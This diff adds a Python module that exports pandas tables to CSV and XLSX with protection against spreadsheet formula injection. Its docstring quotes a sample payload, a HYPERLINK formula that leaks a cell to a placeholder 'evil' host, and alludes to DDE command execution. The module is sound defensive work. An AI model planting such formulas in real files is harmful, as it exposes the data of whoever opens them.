@@ -1,0 +1,107 @@
+"""Tables out to spreadsheets without formula injection.
+
+A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by
+Excel, LibreOffice and Google Sheets as a formula (``=HYPERLINK("http://evil/?"&A1,"click")``
+leaks data; ``=cmd|...`` used to run programs). ``safe_cells`` puts an apostrophe before such
+text so it shows as text (OWASP "CSV injection"). Numbers stay numbers: ``-5`` in a numeric
+column is a number, not text, and is written as one.
+"""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import os
+import re
+from pathlib import Path
+from typing import TextIO
+
+import numpy as np
+import pandas as pd
+
+#: First characters that make a spreadsheet read a cell as a formula.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+#: A plain negative number written as text (``-5``, ``-12.50``): a spreadsheet reads it as that number, not a formula.
+_PLAIN_NEGATIVE = re.compile(r"-\d+(?:\.\d+)?")
+
+
+def _inert(value: object) -> object:
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NEGATIVE.fullmatch(value):
+        return "'" + value
+    return value
+
+
+def safe_cells(table: pd.DataFrame) -> pd.DataFrame:
+    """A copy of ``table`` whose text cells cannot be read as formulas; other cells are unchanged."""
+    out = table.copy()
+    for column in out.columns:
+        values = out[column]
+        if pd.api.types.is_numeric_dtype(values) or pd.api.types.is_bool_dtype(values) \
+                or pd.api.types.is_datetime64_any_dtype(values):
+            continue
+        out[column] = pd.Series([_inert(v) for v in values.tolist()], index=out.index, dtype=object)
+    out.columns = [_inert(str(c)) for c in out.columns]
+    return out
+
+
+def _for_output(table: pd.DataFrame) -> pd.DataFrame:
+    table = table.copy()
+    for column in table.columns:
+        if pd.api.types.is_datetime64_any_dtype(table[column]):
+            table[column] = table[column].dt.strftime("%Y-%m-%d")
+    return safe_cells(table)
+
+
+def to_csv(table: pd.DataFrame, target: str | Path | TextIO) -> None:
+    """Write ``table`` as UTF-8 CSV (dates as ``YYYY-MM-DD``) to a path or an open text stream."""
+    safe = _for_output(table)
+    # The csv module quotes a field holding "\n" but not one holding only "\r" when lines end in "\n";
+    # a reader would then split the record there. Such tables quote every text field.
+    quoting = csv.QUOTE_NONNUMERIC if any("\r" in v for c in safe.columns if safe[c].dtype == object
+                                          for v in safe[c].tolist() if isinstance(v, str)) else csv.QUOTE_MINIMAL
+    if isinstance(target, (str, os.PathLike)):
+        path = Path(target)
+        staged = path.with_name(f".{path.name}.part")
+        safe.to_csv(staged, index=False, lineterminator="\n", quoting=quoting, encoding="utf-8")
+        os.replace(staged, path)
+    else:
+        safe.to_csv(target, index=False, lineterminator="\n", quoting=quoting)
+
+
+def to_xlsx(table: pd.DataFrame, path: str | Path, sheet: str = "orders") -> Path:
+    """Write ``table`` to an XLSX workbook: text as text cells (never formulas), numbers as numbers."""
+    from openpyxl import Workbook
+
+    path = Path(path)
+    safe = safe_cells(table)
+    book = Workbook()
+    ws = book.active
+    ws.title = sheet
+    ws.append([str(c) for c in safe.columns])
+    for row in safe.itertuples(index=False, name=None):
+        ws.append([_cell(v) for v in row])
+    for cells in ws.iter_rows(min_row=1):
+        for cell in cells:
+            if isinstance(cell.value, str):
+                cell.data_type = "s"  # openpyxl would otherwise turn text starting with "=" into a formula
+    staged = path.with_name(f".{path.name}.part")
+    book.save(staged)
+    os.replace(staged, path)
+    return path
+
+
+def _cell(value: object) -> object:
+    if value is None or value is pd.NA or value is pd.NaT or (isinstance(value, float) and np.isnan(value)):
+        return None
+    if isinstance(value, pd.Timestamp):
+        return value.to_pydatetime()
+    if isinstance(value, np.generic):
+        return value.item()
+    if isinstance(value, (str, int, float, bool, dt.date, dt.datetime)):
+        return value
+    return str(value)
+
+
+__all__ = ["FORMULA_STARTS", "safe_cells", "to_csv", "to_xlsx"]
